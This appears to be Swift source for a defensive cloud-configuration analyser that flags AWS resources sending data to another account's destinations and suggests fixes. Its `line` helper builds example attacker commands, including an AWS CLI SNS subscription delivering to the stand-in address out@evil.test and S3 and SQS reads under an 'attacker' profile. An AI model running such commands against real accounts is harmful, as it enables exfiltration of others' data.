import CordonModel
import CordonPolicy

/// Somewhere that a resource of ours sends data by itself.
struct Destination {
  let door: Door

  init(
    _ value: CloudValue, of resource: CloudResource, what: String, _ estate: CloudEstate
  ) {
    let name = "\(resource.id), \(what)"
    let text = estate.text(value)
    guard let target = text.value else {
      door = .unknown(
        name, text.unknowns.isEmpty ? [UnknownPart("\(what) has no destination")] : text.unknowns, resource)
      return
    }
    switch estate.owner(of: target) {
    case .own:
      let closing = ClosingControl(
        resource: "\(resource.id)", location: value.location ?? resource.location,
        layer: "\(what) to a resource of ours")
      door = Door(name: name, finding: .closed([HeldControl(closing, .none)]))
    case .other(let account):
      let location = value.location ?? resource.location
      door = .open(
        name,
        RouteWitness(
          request: .object([
            ("resource", .string("\(resource.id)")), ("destination", .string(target)),
            ("account", .string(account)),
          ]),
          command: Self.line(target),
          story: "AWS itself sends what \(resource.id) holds to \(target), which is account \(account)'s.",
          fix: "send \(what) to a resource of yours, or nowhere", resource: "\(resource.id)",
          location: location, walker: .service(of: resource)))
    case .unknown:
      door = .unknown(
        name,
        [
          UnknownPart(
            "whose \(target) is, is not in the files: if it is yours, --assume own-buckets=\(target)",
            location: value.location)
        ],
        resource)
    }
  }
}

/// Where a type says that it sends.
typealias SendingPlace = (type: String, path: [String])

extension CloudEstate {
  /// The doors of everything that the files tell to send somewhere; with `names`, a text that is no ARN is a name of our own
  /// account's and no door.
  func destinations(_ places: [SendingPlace], names: Bool = false) -> [Door] {
    places.flatMap { place in
      all(place.type).flatMap { resource in
        resource.properties.all(at: place.path).compactMap { value -> Door? in
          if names, let text = text(value).value, !text.hasPrefix("arn:") { return nil }
          return Destination(value, of: resource, what: place.path[0], self).door
        }
      }
    }
  }
}

extension Destination {
  /// What the destination's owner runs to see what arrived.
  private static func line(_ target: String) -> String {
    let parts = target.split(separator: ":", maxSplits: 5, omittingEmptySubsequences: false).map(String.init)
    guard parts.count == 6 else { return "AWS_PROFILE=attacker aws s3 ls \(target) --recursive" }
    let (service, region, account) = (parts[2], parts[3], parts[4])
    let name = parts[5].split { $0 == "/" || $0 == ":" }.last.map(String.init) ?? parts[5]
    let call =
      switch service {
      case "s3": "s3 ls s3://\(name) --recursive"
      case "sqs": "sqs receive-message --queue-url https://sqs.\(region).amazonaws.com/\(account)/\(name)"
      case "sns": "sns subscribe --topic-arn \(target) --protocol email --notification-endpoint out@evil.test"
      case "lambda": "logs tail /aws/lambda/\(name)"
      case "logs": "logs tail \(name)"
      case "kinesis": "kinesis describe-stream-summary --stream-arn \(target)"
      case "firehose": "firehose describe-delivery-stream --delivery-stream-name \(name)"
      case "events": "events list-rules --event-bus-name \(target)"
      default: "resourcegroupstaggingapi get-resources --resource-arn-list \(target)"
      }
    return "AWS_PROFILE=attacker aws \(call)"
  }
}

extension CloudValue {
  /// The values at the end of `path`, through lists.
  func all(at path: [String]) -> [CloudValue] {
    var values = [self]
    for name in path {
      values = values.flatMap { value -> [CloudValue] in
        if case .list = value.content { return value.elements.compactMap { $0[name] } }
        return value[name].map { [$0] } ?? []
      }
    }
    return values.filter { $0.content != .null }
  }
}
